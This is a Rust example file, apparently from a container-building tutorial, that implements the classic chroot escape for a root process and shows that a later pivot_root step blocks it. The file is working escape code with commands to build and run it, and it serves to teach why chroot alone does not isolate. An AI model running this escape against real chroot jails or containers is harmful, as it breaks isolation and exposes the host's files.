//! The classic chroot escape: a root process inside a chroot gets out.
//!
//! chroot(2) changes where path lookup starts, and `..` stops only at a
//! process's root directory. So: chroot into a subdirectory *without*
//! moving the working directory, and the working directory is now outside
//! the root, where `..` is not stopped. Walk up to the real `/`, chroot
//! there, and run a command on the host's files. It needs CAP_SYS_CHROOT,
//! which a root process in step 1 has.
//!
//! It uses only the standard library so that it can be linked statically
//! and run inside any rootfs, even one without a C library:
//!
//!     rustc -O -C target-feature=+crt-static -o rootfs/escape \
//!         step1_chroot/examples/chroot_escape.rs
//!     sudo target/debug/step1 /escape cat /etc/hostname   # the host's
//!     sudo target/debug/step3 /escape cat /etc/hostname   # no way out
//!
//! Step 3 stops it: after pivot_root(2) the old root is detached, so the
//! walk up ends at the container's own root.

use std::os::unix::fs::chroot;
use std::os::unix::process::CommandExt;
use std::process::Command;

fn main() {
    let command: Vec<String> = std::env::args().skip(1).collect();
    if command.is_empty() {
        eprintln!("usage: escape CMD [ARGS...]   (runs CMD in the outermost root reachable)");
        std::process::exit(2);
    }
    let step = |what: &str, result: std::io::Result<()>| {
        if let Err(err) = result {
            eprintln!("escape: {what}: {err}");
            std::process::exit(1);
        }
    };

    // 1. A directory below the current root, and chroot into it. chroot
    //    does not chdir: the working directory stays at the old root,
    //    which is now *above* the process's root.
    step("mkdir /.escape", std::fs::create_dir_all("/.escape"));
    step("chroot /.escape", chroot("/.escape"));

    // 2. Walk up. The kernel stops `..` at the process's root, but the
    //    working directory is not below it any more, so nothing stops the
    //    walk until the root of the mount namespace.
    for _ in 0..256 {
        step("chdir ..", std::env::set_current_dir(".."));
    }

    // 3. Make the place we reached the root, and run the command there.
    step("chroot .", chroot("."));
    let err = Command::new(&command[0]).args(&command[1..]).exec();
    eprintln!("escape: cannot run {}: {err}", command[0]);
    std::process::exit(127);
}
